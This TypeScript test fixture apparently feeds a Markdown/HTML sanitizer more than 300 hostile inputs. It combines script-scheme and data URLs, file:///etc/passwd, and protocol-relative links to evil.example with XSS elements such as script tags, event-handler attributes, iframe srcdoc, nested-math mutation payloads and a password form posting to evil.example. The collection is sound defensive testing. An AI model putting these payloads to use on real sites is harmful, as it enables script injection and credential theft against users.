/** Addresses that must never become a link or picture that browsers follow or load. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'java&#115;cript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'java&NewLine;script:alert(1)',
  '%6Aavascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://shop.invalid/1',
  '//evil.example/x.png',
  '/\\evil.example/x.png',
  '\\\\evil.example/x.png',
  'https:evil.example',
  'filesystem:http://shop.invalid/x',
  'ws://evil.example',
] as const

/** Ways to name an address in Markdown or HTML. */
const placesOfAddresses: ((address: string) => string)[] = [
  (address) => `[here](${address})`,
  (address) => `[here](<${address}>)`,
  (address) => `![here](${address})`,
  (address) => `[here][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">here</a>`,
  (address) => `<${address}>`,
  (address) => `| a |\n|---|\n| [here](${address}) |`,
  (address) => `[![here](${address})](${address})`,
  (address) => `- **[here](${address} "title")**`,
  (address) => `# [here](${address})`,
]

/** HTML that must never become an element. */
const elements = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name=password></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</article></main><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
] as const

/** Places of HTML in Markdown. */
const placesOfElements: ((element: string) => string)[] = [
  (element) => element,
  (element) => `# ${element}`,
  (element) => `**${element}**`,
  (element) => `- ${element}`,
  (element) => `[${element}](/shop)`,
  (element) => `[here](/shop "${element}")`,
  (element) => `![${element}](/media/0123456789abcdef0123456789abcdef/ring.webp)`,
  (element) => `| ${element.replaceAll('|', '')} |\n|---|\n| ${element.replaceAll('|', '')} |`,
  (element) => `[here](/shop/${element})`,
]

/** More than 300 texts of pages that try to run a script or to load something from elsewhere. */
export const hostileDocuments: readonly string[] = [
  ...addresses.flatMap((address) => placesOfAddresses.map((place) => place(address))),
  ...elements.flatMap((element) => placesOfElements.map((place) => place(element))),
]
